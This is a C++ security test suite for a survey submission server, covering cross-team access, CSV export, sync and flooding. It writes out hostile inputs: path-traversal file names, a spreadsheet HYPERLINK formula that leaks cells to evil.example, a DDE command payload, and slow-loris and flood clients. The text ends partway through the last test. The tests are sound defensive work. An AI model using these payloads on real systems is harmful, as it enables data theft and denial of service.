// SPDX-License-Identifier: GPL-3.0-or-later
// survey-sync under attack: the real binary on 127.0.0.1, attacked the way issue 10 found
// it could be — hostile names, another team's submissions, formula cells — each test
// performing the attack and checking that nothing it aimed at happened.
#include "probe.h"
#include "testutil.h"

#include <httplib.h>
#include <zip.h>

#include <QCryptographicHash>
#include <QDir>
#include <QDirIterator>
#include <QElapsedTimer>
#include <QFileInfo>
#include <QJsonDocument>
#include <QJsonObject>
#include <QScopeGuard>
#include <QSqlDatabase>
#include <QSqlError>
#include <QSqlQuery>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QUuid>

#include <map>

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <openssl/ssl.h>

#include <csignal>

namespace {

/// A TCP connection to 127.0.0.1:`port` from the local address `source` (any 127.x.y.z:
/// loopback has them all, so one test can be many clients). -1 on failure.
int connectFrom(const char *source, int port)
{
    const int s = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_in from{};
    from.sin_family = AF_INET;
    inet_pton(AF_INET, source, &from.sin_addr);
    sockaddr_in to{};
    to.sin_family = AF_INET;
    to.sin_port = htons(static_cast<quint16>(port));
    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (s < 0 || ::bind(s, reinterpret_cast<sockaddr *>(&from), sizeof from) != 0 ||
        ::connect(s, reinterpret_cast<sockaddr *>(&to), sizeof to) != 0) {
        if (s >= 0)
            ::close(s);
        return -1;
    }
    timeval wait{10, 0}; // no test waits forever on a socket
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof wait);
    return s;
}

bool sendAll(int s, const std::string &bytes)
{
    std::size_t done = 0;
    while (done < bytes.size()) {
        const ssize_t n = ::send(s, bytes.data() + done, bytes.size() - done, MSG_NOSIGNAL);
        if (n <= 0)
            return false;
        done += static_cast<std::size_t>(n);
    }
    return true;
}

/// One whole response (head and Content-Length body) read from `s`; empty if the
/// connection ends or stalls first.
std::string readResponse(int s)
{
    std::string in;
    char buf[4096];
    for (;;) {
        const std::size_t end = in.find("\r\n\r\n");
        if (end != std::string::npos) {
            const std::size_t at = in.find("Content-Length: ");
            const std::size_t length = at < end ? std::stoul(in.substr(at + 16)) : 0;
            if (in.size() >= end + 4 + length)
                return in.substr(0, end + 4 + length);
        }
        const ssize_t n = ::recv(s, buf, sizeof buf, 0);
        if (n <= 0)
            return {};
        in.append(buf, static_cast<std::size_t>(n));
    }
}

/// Whether the server closed `s`: reads (and drops) until the end, false after `seconds`.
bool closedWithin(int s, int seconds)
{
    timeval wait{seconds, 0};
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof wait);
    char buf[4096];
    for (;;) {
        const ssize_t n = ::recv(s, buf, sizeof buf, 0);
        if (n == 0 || (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK && errno != EINTR))
            return true;
        if (n < 0)
            return false;
    }
}

/// A figure (kB) of /proc/PID/status: VmRSS, VmHWM.
long statusKb(qint64 pid, const char *field)
{
    QFile f(QStringLiteral("/proc/%1/status").arg(pid));
    if (!f.open(QIODevice::ReadOnly))
        return -1;
    for (const QByteArray &line : f.readAll().split('\n')) {
        if (line.startsWith(field))
            return line.mid(static_cast<qsizetype>(std::strlen(field)))
                .trimmed()
                .split(' ')[0]
                .toLong();
    }
    return -1;
}

/// Every entry of a zip, by name.
std::map<QString, QByteArray> unzip(const std::string &bytes, const QString &scratch)
{
    std::map<QString, QByteArray> out;
    QFile f(scratch);
    if (!f.open(QIODevice::WriteOnly))
        return out;
    f.write(bytes.data(), static_cast<qint64>(bytes.size()));
    f.close();
    int err = 0;
    zip_t *z = zip_open(QFile::encodeName(scratch).constData(), ZIP_RDONLY, &err);
    if (!z)
        return out;
    for (zip_int64_t i = 0; i < zip_get_num_entries(z, 0); ++i) {
        zip_stat_t st;
        if (zip_stat_index(z, static_cast<zip_uint64_t>(i), 0, &st) != 0)
            continue;
        QByteArray content(static_cast<qsizetype>(st.size), 0);
        zip_file_t *zf = zip_fopen_index(z, static_cast<zip_uint64_t>(i), 0);
        if (zf) {
            zip_fread(zf, content.data(), st.size);
            zip_fclose(zf);
        }
        out[QString::fromUtf8(st.name)] = content;
    }
    zip_close(z);
    return out;
}

} // namespace

using namespace probe;

class TestServerSecurity : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void initTestCase();
    void cleanupTestCase();
    void hostileInstanceIdsRefused_data();
    void hostileInstanceIdsRefused();
    void hostileAttachmentNamesRefused_data();
    void hostileAttachmentNamesRefused();
    void unreferencedAttachmentsLeftOut();
    void hostileStoredRowsExportSafely();
    void otherTeamsSubmissionsUntouchable();
    void csvCellsNeverFormulas();
    void acknowledgedSubmissionsAreSynced();
    void slowAndIdleClientsHoldNoWorker();
    void slowHeadsCutAtTheDeadline();
    void connectionsPerAddressCapped();
    void unauthenticatedBodiesKeepMemoryFlat();
    void jsonWritesNeedJson();
    void plainHttpStaysOnLoopback();
    void tlsPolicy();
    void securityHeaders();
    void passwordGuessingThrottled();
    void sessionsEndAndAreHashed();
    void lastAdminStaysAndUsersComeBack();
    void userNamesArePlain();
    void supervisorsOfTheirOwnProject();
    void filesOnlyForTheServer();
    void sendBackNeedsTheReviewersWords();

private:
    QString db() const
    {
        return QStringLiteral("sqlite:") + m_dir.filePath(QStringLiteral("s.db"));
    }
    httplib::Client client(const char *user, const char *password) const
    {
        httplib::Client c(m_host, m_port);
        c.set_connection_timeout(10);
        c.set_read_timeout(30);
        c.set_basic_auth(user, password);
        return c;
    }
    httplib::Result post(const QByteArray &xml,
                         const std::vector<std::pair<std::string, std::string>> &files = {},
                         const char *user = "enuA", const char *password = "enuA-password") const
    {
        httplib::MultipartFormDataItems items{
            {"xml_submission_file", xml.toStdString(), "submission.xml", "text/xml"}};
        for (const auto &[name, content] : files)
            items.push_back({name, content, name, "image/jpeg"});
        auto c = client(user, password);
        return c.Post("/v1/projects/1/submission", {{"X-OpenRosa-Version", "1.0"}}, items);
    }
    QVariant value(const QString &sql, const QVariantList &binds = {}) const
    {
        QVariant out;
        {
            QSqlDatabase c =
                QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("peek"));
            c.setDatabaseName(db().mid(7));
            if (c.open()) {
                QSqlQuery q(c);
                q.prepare(sql);
                for (const QVariant &b : binds)
                    q.addBindValue(b);
                if (q.exec() && q.next())
                    out = q.value(0);
                else if (!q.isSelect() && q.lastError().type() == QSqlError::NoError)
                    out = q.numRowsAffected();
            }
            c.close();
        }
        QSqlDatabase::removeDatabase(QStringLiteral("peek"));
        return out;
    }
    int count(const QString &sql, const QVariantList &binds = {}) const
    {
        return value(sql, binds).toInt();
    }
    /// Every file below the test's folder but the server's working folder, as paths
    /// relative to it.
    QStringList filesBelow(const QString &root) const
    {
        QStringList out;
        QDirIterator it(root, QDir::Files | QDir::Hidden | QDir::System,
                        QDirIterator::Subdirectories);
        while (it.hasNext()) {
            const QString path = QDir(root).relativeFilePath(it.next());
            if (!path.startsWith(QLatin1String("data/")))
                out << path;
        }
        out.sort();
        return out;
    }

    QTemporaryDir m_dir;
    QProcess m_server;
    std::string m_host;
    int m_port = 0;
};

void TestServerSecurity::initTestCase()
{
    QVERIFY(m_dir.isValid());
    const QString form = QStringLiteral(SURVEY_TEST_DATA "/probe.xml");
    QVERIFY(testutil::seedServer(QStringLiteral(SURVEY_SYNC), db(),
                                 {{QStringLiteral("supA"),
                                   QStringLiteral("supervisor"),
                                   QStringLiteral("supA-password"),
                                   {}},
                                  {QStringLiteral("supB"),
                                   QStringLiteral("supervisor"),
                                   QStringLiteral("supB-password"),
                                   {}},
                                  {QStringLiteral("enuA"), QStringLiteral("enumerator"),
                                   QStringLiteral("enuA-password"), QStringLiteral("supA")},
                                  {QStringLiteral("enuB"), QStringLiteral("enumerator"),
                                   QStringLiteral("enuB-password"), QStringLiteral("supB")},
                                  {QStringLiteral("victim"), QStringLiteral("enumerator"),
                                   QStringLiteral("victim-password"), QStringLiteral("supA")}},
                                 {form}));
    QVERIFY(QDir().mkpath(m_dir.filePath(QStringLiteral("data"))));
    const QUrl base = testutil::startAndReadUrl(
        m_server, QStringLiteral(SURVEY_SYNC),
        {QStringLiteral("serve"), QStringLiteral("--db"), db(), QStringLiteral("--listen"),
         QStringLiteral("127.0.0.1:0"), QStringLiteral("--insecure-http"),
         QStringLiteral("--data-dir"), m_dir.filePath(QStringLiteral("data"))});
    QVERIFY(base.isValid());
    m_host = base.host().toStdString();
    m_port = base.port();
}

void TestServerSecurity::cleanupTestCase()
{
    m_server.terminate();
    if (!m_server.waitForFinished(5000)) {
        m_server.kill();
        m_server.waitForFinished();
    }
}

void TestServerSecurity::hostileInstanceIdsRefused_data()
{
    QTest::addColumn<QString>("id");
    QTest::newRow("climbs out") << QStringLiteral("../../../../tmp/survey-pwned");
    QTest::newRow("slash") << QStringLiteral("uuid:a/b");
    QTest::newRow("backslash") << QStringLiteral("uuid:a\\b");
    QTest::newRow("tab") << QStringLiteral("uuid:a\tb");
    QTest::newRow("right-to-left override") << QStringLiteral("uuid:abc\u202Egpj.exe");
    QTest::newRow("too long") << QStringLiteral("uuid:") + QString(196, QLatin1Char('a'));
}

void TestServerSecurity::hostileInstanceIdsRefused()
{
    // instanceID and deprecatedID become keys and names: only plain printable ones are taken.
    QFETCH(QString, id);
    const int before = count(QStringLiteral("SELECT COUNT(*) FROM submissions"));
    auto r =
        post(submission(id, QStringLiteral("n"), QStringLiteral("p.jpg")), {{"p.jpg", "JPEG"}});
    QVERIFY(r);
    QCOMPARE(r->status, 400);
    QCOMPARE(message(r),
             QStringLiteral("the instanceID is not acceptable: use the OpenRosa form uuid:… "
                            "(printable characters, no '/' or '\\', at most 200)"));
    r = post(submission(newId(), QStringLiteral("n"), {}, id));
    QVERIFY(r);
    QCOMPARE(r->status, 400);
    QVERIFY2(message(r).startsWith(QLatin1String("the deprecatedID is not acceptable")),
             qPrintable(message(r)));
    QCOMPARE(count(QStringLiteral("SELECT COUNT(*) FROM submissions")), before);
    // 200 characters is the most taken.
    const QString longest = QStringLiteral("uuid:") + QString(195, QLatin1Char('b'));
    r = post(submission(longest));
    QVERIFY(r);
    QCOMPARE(r->status, 201);
}

void TestServerSecurity::hostileAttachmentNamesRefused_data()
{
    QTest::addColumn<QString>("name");
    QTest::newRow("climbs out") << QStringLiteral("../../survey.db-wal");
    QTest::newRow("folder") << QStringLiteral("media/p.jpg");
    QTest::newRow("backslash") << QStringLiteral("..\\p.jpg");
    QTest::newRow("dot dot") << QStringLiteral("..");
    QTest::newRow("hidden") << QStringLiteral(".bashrc");
    QTest::newRow("newline") << QStringLiteral("p\n.jpg");
    QTest::newRow("too long") << QString(252, QLatin1Char('p')) + QStringLiteral(".jpg");
}

void TestServerSecurity::hostileAttachmentNamesRefused()
{
    QFETCH(QString, name);
    const QString id = newId();
    auto r = post(submission(id, QStringLiteral("n"), name), {{name.toStdString(), "JPEG"}});
    QVERIFY(r);
    QCOMPARE(r->status, 400);
    QVERIFY2(message(r).contains(QLatin1String("is not a plain file name")),
             qPrintable(message(r)));
    QCOMPARE(count(QStringLiteral("SELECT COUNT(*) FROM submissions WHERE instance_id = ?"), {id}),
             0);
    // The same file twice in one request is refused too.
    r = post(submission(id, QStringLiteral("n"), QStringLiteral("p.jpg")),
             {{"p.jpg", "one"}, {"p.jpg", "two"}});
    QVERIFY(r);
    QCOMPARE(r->status, 400);
    QCOMPARE(message(r), QStringLiteral("the attachment 'p.jpg' is sent twice in one request"));
}

void TestServerSecurity::unreferencedAttachmentsLeftOut()
{
    // Only files the XML names are kept (as ODK Central does); the answer says which were not.
    const QString id = newId();
    auto r = post(submission(id, QStringLiteral("n"), QStringLiteral("house.jpg")),
                  {{"house.jpg", "JPEG"}, {"extra.bin", std::string(1000, 'x')}});
    QVERIFY(r);
    QCOMPARE(r->status, 201);
    QCOMPARE(message(r),
             QStringLiteral("submission received Left out 1 file(s) the submission does not "
                            "refer to: extra.bin"));
    QCOMPARE(count(QStringLiteral("SELECT COUNT(*) FROM submission_attachments a JOIN "
                                  "submission_versions v ON v.id = a.version_id WHERE "
                                  "v.instance_id = ?"),
                   {id}),
             1);
    QCOMPARE(value(QStringLiteral("SELECT a.name FROM submission_attachments a JOIN "
                                  "submission_versions v ON v.id = a.version_id WHERE "
                                  "v.instance_id = ?"),
                   {id})
                 .toString(),
             QStringLiteral("house.jpg"));
}

void TestServerSecurity::hostileStoredRowsExportSafely()
{
    // Rows stored before intake checked names (written here straight into the database):
    // the export names nothing after them, writes nothing outside its folder, and still
    // exports everything else.
    const QString good = newId();
    auto r = post(submission(good, QStringLiteral("fine"), QStringLiteral("a.jpg")),
                  {{"a.jpg", "GOOD"}});
    QVERIFY(r);
    QCOMPARE(r->status, 201);
    const QString target = m_dir.filePath(QStringLiteral("outside/pwned"));
    QVERIFY(QDir().mkpath(m_dir.filePath(QStringLiteral("outside"))));
    const QString hostileId = QStringLiteral("../../../../../../../..") + target;
    const QString hostileName = QStringLiteral("../../../../../../../..") + target + "-wal";
    QCOMPARE(count(QStringLiteral(
                       "INSERT INTO submissions (form_id, instance_id, submitter_id, created_at) "
                       "SELECT f.id, ?, u.id, '2026-01-01' FROM forms f, users u WHERE u.name = "
                       "'enuA'"),
                   {hostileId}),
             1);
    const int sub =
        count(QStringLiteral("SELECT id FROM submissions WHERE instance_id = ?"), {hostileId});
    QCOMPARE(count(QStringLiteral("INSERT INTO submission_versions (submission_id, "
                                  "form_version_id, instance_id, xml, xml_hash, submitter_id, "
                                  "created_at) SELECT ?, v.id, ?, ?, 'x', u.id, '2026-01-01' FROM "
                                  "form_versions v, users u WHERE u.name = 'enuA'"),
                   {sub, hostileId, submission(hostileId, QStringLiteral("bad"), hostileName)}),
             1);
    const int version = count(
        QStringLiteral("SELECT id FROM submission_versions WHERE instance_id = ?"), {hostileId});
    QCOMPARE(count(QStringLiteral("UPDATE submissions SET current_version_id = ? WHERE id = ?"),
                   {version, sub}),
             1);
    QCOMPARE(count(QStringLiteral("INSERT INTO submission_attachments (version_id, name, hash, "
                                  "content) VALUES (?, ?, 'x', ?)"),
                   {version, hostileName, QByteArray("EVIL")}),
             1);
    const QStringList before = filesBelow(m_dir.path());

    auto c = client("admin", "admin-password");
    auto res = c.Get("/v1/projects/1/forms/probe/submissions.csv.zip");
    QVERIFY(res);
    QCOMPARE(res->status, 200);
    QCOMPARE(filesBelow(m_dir.path()), before); // nothing written outside the working folder
    QVERIFY(!QFileInfo::exists(target + QStringLiteral("-wal")));
    const auto entries = unzip(res->body, m_dir.filePath(QStringLiteral("export.zip")));
    QFile::remove(m_dir.filePath(QStringLiteral("export.zip")));
    for (const auto &[name, content] : entries) {
        QVERIFY2(!name.contains(QLatin1String("..")) && !name.startsWith(QLatin1Char('/')),
                 qPrintable(name));
    }
    const QString goodFolder = QString(good).replace(QLatin1Char(':'), QLatin1Char('_'));
    QCOMPARE(entries.at(QStringLiteral("media/%1/a.jpg").arg(goodFolder)), QByteArray("GOOD"));
    const int attachment = count(
        QStringLiteral("SELECT id FROM submission_attachments WHERE version_id = ?"), {version});
    QCOMPARE(entries.at(
                 QStringLiteral("media/submission-%1/attachment-%2").arg(version).arg(attachment)),
             QByteArray("EVIL"));
    QVERIFY(entries.at(QStringLiteral("export-problems.txt")).contains("attachment-"));
    QVERIFY(entries.at(QStringLiteral("probe.csv")).contains(good.toUtf8()));
    // The row is cleaned up for the other tests.
    for (const QString &sql :
         {QStringLiteral("DELETE FROM submission_attachments WHERE version_id = %1").arg(version),
          QStringLiteral("UPDATE submissions SET current_version_id = NULL WHERE id = %1").arg(sub),
          QStringLiteral("DELETE FROM submission_versions WHERE id = %1").arg(version),
          QStringLiteral("DELETE FROM submissions WHERE id = %1").arg(sub)})
        value(sql);
}

void TestServerSecurity::otherTeamsSubmissionsUntouchable()
{
    // enuB (supervisor B's team) aims at enuA's submission: an edit naming it, and a resend of
    // its exact XML carrying a file of B's. Both fail exactly as they would for a submission
    // that does not exist or is someone else's, and A's data stays as it was.
    const QString a = newId();
    const QByteArray aXml = submission(a, QStringLiteral("A's answer"), QStringLiteral("a.jpg"));
    auto r = post(aXml, {{"a.jpg", "A-PHOTO"}});
    QVERIFY(r);
    QCOMPARE(r->status, 201);
    const auto attachments = [&] {
        return count(QStringLiteral("SELECT COUNT(*) FROM submission_attachments t JOIN "
                                    "submission_versions v ON v.id = t.version_id WHERE "
                                    "v.instance_id = ?"),
                     {a});
    };
    QCOMPARE(attachments(), 1);

    const QString edit = newId();
    r = post(submission(edit, QStringLiteral("B's rewrite"), {}, a), {}, "enuB", "enuB-password");
    QVERIFY(r);
    QCOMPARE(r->status, 409);
    const QString refusal = message(r);
    const QString nobody = newId();
    r = post(submission(newId(), QStringLiteral("B's rewrite"), {}, nobody), {}, "enuB",
             "enuB-password");
    QVERIFY(r);
    QCOMPARE(r->status, 409);
    QCOMPARE(refusal, message(r).replace(nobody, a)); // the same words as for no submission
    QCOMPARE(count(QStringLiteral("SELECT COUNT(*) FROM submission_versions WHERE instance_id = ?"),
                   {edit}),
             0);
    QCOMPARE(value(QStringLiteral("SELECT v.instance_id FROM submissions s JOIN "
                                  "submission_versions v ON v.id = s.current_version_id WHERE "
                                  "s.instance_id = ?"),
                   {a})
                 .toString(),
             a);

    // A's exact XML from B, with a file of B's: refused, nothing added.
    const QByteArray withB = submission(a, QStringLiteral("A's answer"), QStringLiteral("a.jpg"));
    QCOMPARE(withB, aXml);
    r = post(aXml, {{"a.jpg", "B-PHOTO"}}, "enuB", "enuB-password");
    QVERIFY(r);
    QCOMPARE(r->status, 409);
    QCOMPARE(message(r),
             QStringLiteral("instanceID %1 is already taken by another submission; an edit needs "
                            "a new instanceID and deprecatedID %1")
                 .arg(a));
    QCOMPARE(attachments(), 1);
    QCOMPARE(value(QStringLiteral("SELECT t.content FROM submission_attachments t JOIN "
                                  "submission_versions v ON v.id = t.version_id WHERE "
                                  "v.instance_id = ?"),
                   {a})
                 .toByteArray(),
             QByteArray("A-PHOTO"));

    // Its own submitter resends and edits; an admin may edit too.
    r = post(aXml, {{"a.jpg", "A-PHOTO"}});
    QVERIFY(r);
    QCOMPARE(r->status, 201);
    const QString ownEdit = newId();
    r = post(submission(ownEdit, QStringLiteral("A's correction"), {}, a));
    QVERIFY(r);
    QCOMPARE(r->status, 201);
    r = post(submission(newId(), QStringLiteral("admin's correction"), {}, ownEdit), {}, "admin",
             "admin-password");
    QVERIFY(r);
    QCOMPARE(r->status, 201);
}

void TestServerSecurity::csvCellsNeverFormulas()
{
    // Answers that a spreadsheet would run as formulas are exported as text (a leading
    // apostrophe); numbers and geopoints, negative ones included, stay as they are.
    const std::vector<std::pair<QString, QString>> cases{
        {QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"),
         QStringLiteral("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"")},
        {QStringLiteral("+1+cmd|' /C calc'!A0"), QStringLiteral("'+1+cmd|' /C calc'!A0")},
        {QStringLiteral("-2+3"), QStringLiteral("'-2+3")},
        {QStringLiteral("@SUM(A1:A9)"), QStringLiteral("'@SUM(A1:A9)")},
        {QStringLiteral("\t=1"), QStringLiteral("'\t=1")},
        {QStringLiteral("-12.5"), QStringLiteral("-12.5")},
        {QStringLiteral("a=b"), QStringLiteral("a=b")},
    };
    QStringList ids;
    for (const auto &[note, expected] : cases) {
        ids << newId();
        auto r = post(submission(ids.back(), note, {}, {}, QStringLiteral("-1.29 36.82 1700 5")),
                      {}, "enuB", "enuB-password");
        QVERIFY(r);
        QCOMPARE(r->status, 201);
    }
    auto c = client("supB", "supB-password");
    auto res = c.Get("/v1/projects/1/forms/probe/submissions.csv.zip");
    QVERIFY(res);
    QCOMPARE(res->status, 200);
    const auto entries = unzip(res->body, m_dir.filePath(QStringLiteral("export.zip")));
    QFile::remove(m_dir.filePath(QStringLiteral("export.zip")));
    const QString csv = QString::fromUtf8(entries.at(QStringLiteral("probe.csv")));
    for (std::size_t i = 0; i < cases.size(); ++i) {
        // SubmissionDate,note,photo,where,meta-instanceID,KEY,…
        const qsizetype at = csv.indexOf(ids[static_cast<qsizetype>(i)]);
        QVERIFY(at > 0);
        const qsizetype lineStart = csv.lastIndexOf(QLatin1String("\r\n"), at) + 2;
        const QString line = csv.mid(lineStart, at - lineStart);
        const qsizetype firstComma = line.indexOf(QLatin1Char(','));
        const QString expectedCells = cases[i].second + QStringLiteral(",,-1.29 36.82 1700 5,");
        QCOMPARE(line.mid(firstComma + 1), expectedCells);
    }
}

void TestServerSecurity::acknowledgedSubmissionsAreSynced()
{
    // A 201 is sent only after the submission's commit reached the disk: between reading the
    // request and writing the 201, the server syncs the database's write-ahead log (with
    // synchronous=NORMAL it did not, and a power cut could lose what a device was told was
    // stored, and then deleted). Watched from outside with strace.
    const QString strace = QStandardPaths::findExecutable(QStringLiteral("strace"));
    QVERIFY2(!strace.isEmpty(), "strace is needed (scripts/deps.sh installs it)");
    const QString log = m_dir.filePath(QStringLiteral("strace.log"));
    QProcess traced;
    const QUrl base = testutil::startAndReadUrl(
        traced, strace,
        {QStringLiteral("-f"), QStringLiteral("-y"), QStringLiteral("-s"), QStringLiteral("48"),
         QStringLiteral("-e"),
         QStringLiteral("trace=fsync,fdatasync,read,recvfrom,write,sendto,sendmsg,writev"),
         QStringLiteral("-o"), log, QStringLiteral(SURVEY_SYNC), QStringLiteral("serve"),
         QStringLiteral("--db"), db(), QStringLiteral("--listen"), QStringLiteral("127.0.0.1:0"),
         QStringLiteral("--insecure-http")});
    QVERIFY(base.isValid());
    httplib::Client c(base.host().toStdString(), base.port());
    c.set_basic_auth("enuA", "enuA-password");
    c.set_read_timeout(30);
    // Two submissions: the first one's commit may create the write-ahead log, which SQLite
    // syncs in any mode; the second one is the one watched.
    for (int i = 0; i < 2; ++i) {
        auto r = c.Post("/v1/projects/1/submission", {{"X-OpenRosa-Version", "1.0"}},
                        httplib::MultipartFormDataItems{{"xml_submission_file",
                                                         submission(newId()).toStdString(),
                                                         "submission.xml", "text/xml"}});
        QVERIFY(r);
        QCOMPARE(r->status, 201);
    }
    // strace ends with the server it runs: its child, stopped here.
    const QByteArray children =
        testutil::readFile(QStringLiteral("/proc/%1/task/%1/children").arg(traced.processId()));
    QVERIFY(!children.trimmed().isEmpty());
    QCOMPARE(
        ::kill(static_cast<pid_t>(children.trimmed().split(' ').first().toLongLong()), SIGTERM), 0);
    QVERIFY(traced.waitForFinished(20000));
    const QList<QByteArray> lines = testutil::readFile(log).split('\n');
    qsizetype request = -1;
    qsizetype answer = -1;
    int posts = 0;
    for (qsizetype i = 0; i < lines.size() && answer < 0; ++i) {
        if (lines[i].contains("POST /v1/projects/1/submission") && ++posts == 2)
            request = i;
        else if (request >= 0 && lines[i].contains("HTTP/1.1 201"))
            answer = i;
    }
    QVERIFY2(request >= 0 && answer > request, "the request and its answer are in the trace");
    bool synced = false;
    for (qsizetype i = request; i < answer; ++i) {
        const QByteArray &l = lines[i];
        synced = synced || ((l.contains("fdatasync(") || l.contains("fsync(")) &&
                            l.contains(".db-wal>") && l.contains("= 0"));
    }
    QVERIFY2(synced, "no sync of the write-ahead log between the request and its 201");
}

void TestServerSecurity::slowAndIdleClientsHoldNoWorker()
{
    // 200 clients send half a request head and wait (slow loris), 200 more keep their
    // connection open and idle after a request (phones on HTTP/1.1): with 8 workers, such
    // clients used to hold all of them. Now a signed-in form list still answers at once.
    std::vector<int> sockets;
    const auto closeAll = qScopeGuard([&] {
        for (int s : sockets)
            ::close(s);
    });
    for (int i = 0; i < 200; ++i) {
        const QByteArray from = "127.0.1." + QByteArray::number(1 + i / 50);
        const int s = connectFrom(from.constData(), m_port);
        QVERIFY(s >= 0);
        sockets.push_back(s);
        QVERIFY(sendAll(s, "GET /v1/projects/1/formList HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Open"));
    }
    for (int i = 0; i < 200; ++i) {
        const QByteArray from = "127.0.2." + QByteArray::number(1 + i / 50);
        const int s = connectFrom(from.constData(), m_port);
        QVERIFY(s >= 0);
        sockets.push_back(s);
        QVERIFY(sendAll(s, "GET /v1/nothing HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"));
        const std::string r = readResponse(s);
        QVERIFY2(r.rfind("HTTP/1.1 404", 0) == 0, r.c_str());
        QVERIFY(r.find("Connection: close") == std::string::npos); // kept open, idle
    }
    httplib::Client c(m_host, m_port);
    c.set_basic_auth("enuA", "enuA-password");
    c.set_connection_timeout(5);
    c.set_read_timeout(5); // the old server kept it waiting for the slow clients' 30 s
    QElapsedTimer timer;
    timer.start();
    auto r = c.Get("/v1/projects/1/formList", {{"X-OpenRosa-Version", "1.0"}});
    const qint64 ms = timer.elapsed();
    QVERIFY2(r, httplib::to_string(r.error()).c_str());
    QCOMPARE(r->status, 200);
    QVERIFY(r->body.find("<formID>probe</formID>") != std::string::npos);
    qInfo("form list with 200 slow and 200 idle clients connected: %lld ms", ms);
}

void TestServerSecurity::slowHeadsCutAtTheDeadline()
{
    // A client trickling its head a byte every 300 ms is cut once the head's deadline
    // (--timeout-s, counted from the connection) has passed: a read timeout alone never ended
    // it, as every byte came in time.
    QProcess server;
    const QUrl base = testutil::startAndReadUrl(
        server, QStringLiteral(SURVEY_SYNC),
        {QStringLiteral("serve"), QStringLiteral("--db"), db(), QStringLiteral("--listen"),
         QStringLiteral("127.0.0.1:0"), QStringLiteral("--insecure-http"),
         QStringLiteral("--timeout-s"), QStringLiteral("2")});
    QVERIFY(base.isValid());
    const int s = connectFrom("127.0.0.1", base.port());
    QVERIFY(s >= 0);
    const std::string head = "GET /v1/projects/1/formList HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                             "X-OpenRosa-Version: 1.0\r\n\r\n";
    QElapsedTimer timer;
    timer.start();
    std::size_t sent = 0;
    std::string answer;
    for (; sent < head.size() && timer.elapsed() < 8000; ++sent) {
        if (::send(s, head.data() + sent, 1, MSG_NOSIGNAL) != 1)
            break;
        // Wait 300 ms for the server to say something (it closes with a 408).
        timeval wait{0, 300'000};
        setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof wait);
        char buf[1024];
        const ssize_t n = ::recv(s, buf, sizeof buf, 0);
        if (n > 0)
            answer.append(buf, static_cast<std::size_t>(n));
        if (n == 0 || (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK))
            break;
    }
    ::close(s);
    QVERIFY2(sent < head.size(), "the whole head went through byte by byte");
    QVERIFY2(answer.rfind("HTTP/1.1 408", 0) == 0, answer.c_str());
    server.terminate();
    QVERIFY(server.waitForFinished(10000));
}

void TestServerSecurity::connectionsPerAddressCapped()
{
    // At most --max-connections-per-address (64 by default) from one address; the next is
    // told so and closed; other addresses are served; a freed place can be taken again.
    std::vector<int> held;
    const auto closeAll = qScopeGuard([&] {
        for (int s : held)
            ::close(s);
    });
    for (int i = 0; i < 64; ++i) {
        const int s = connectFrom("127.0.3.1", m_port);
        QVERIFY(s >= 0);
        held.push_back(s);
    }
    // The 64 are accepted once a request on the last one is answered.
    QVERIFY(sendAll(held.back(), "GET /v1/nothing HTTP/1.1\r\nHost: x\r\n\r\n"));
    QVERIFY(readResponse(held.back()).rfind("HTTP/1.1 404", 0) == 0);
    const int extra = connectFrom("127.0.3.1", m_port);
    QVERIFY(extra >= 0);
    const std::string refused = readResponse(extra);
    QVERIFY2(refused.rfind("HTTP/1.1 503", 0) == 0, refused.c_str());
    QVERIFY(refused.find("too many connections from your address") != std::string::npos);
    QVERIFY(closedWithin(extra, 5));
    ::close(extra);
    auto c = client("enuA", "enuA-password");
    auto r = c.Get("/v1/projects/1/formList", {{"X-OpenRosa-Version", "1.0"}});
    QVERIFY(r);
    QCOMPARE(r->status, 200);
    ::close(held.back());
    held.pop_back();
    // Once the server has seen that one close, the address may connect again.
    QTRY_VERIFY_WITH_TIMEOUT(
        [&] {
            const int again = connectFrom("127.0.3.1", m_port);
            const bool served = again >= 0 &&
                                sendAll(again, "GET /v1/nothing HTTP/1.1\r\nHost: x\r\n\r\n") &&
                                readResponse(again).rfind("HTTP/1.1 404", 0) == 0;
            if (again >= 0)
                ::close(again);
            return served;
        }(),
        5000);
}

void TestServerSecurity::unauthenticatedBodiesKeepMemoryFlat()
{
    // 100 MB sent by someone not signed in, three ways that each grew the server by as much:
    // a sign-in without Content-Length followed by endless bytes, a chunked submission, and a
    // declared 10 GB body. The server's peak memory stays where it was.
    const qint64 pid = m_server.processId();
    const long before = statusKb(pid, "VmHWM:");
    QVERIFY(before > 0);
    const std::string megabyte(1 << 20, 'x');
    const auto flood = [&](const std::string &head, std::string *answer) {
        const int s = connectFrom("127.0.4.1", m_port);
        if (s < 0)
            return -1;
        int sent = 0;
        if (sendAll(s, head)) {
            for (; sent < 100 && sendAll(s, megabyte); ++sent) {
            }
        }
        ::shutdown(s, SHUT_WR);
        *answer = readResponse(s);
        ::close(s);
        return sent;
    };
    std::string answer;
    flood("POST /v1/sessions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n\r\n",
          &answer);
    // No length: the body is empty (HTTP/1.1), the bytes after it are no request.
    QVERIFY2(answer.rfind("HTTP/1.1 400", 0) == 0 || answer.rfind("HTTP/1.1 431", 0) == 0,
             answer.c_str());
    flood("POST /v1/projects/1/submission HTTP/1.1\r\nHost: x\r\nX-OpenRosa-Version: 1.0\r\n"
          "Transfer-Encoding: chunked\r\nContent-Type: multipart/form-data; boundary=b\r\n\r\n"
          "100000\r\n",
          &answer);
    QVERIFY2(answer.rfind("HTTP/1.1 401", 0) == 0, answer.c_str());
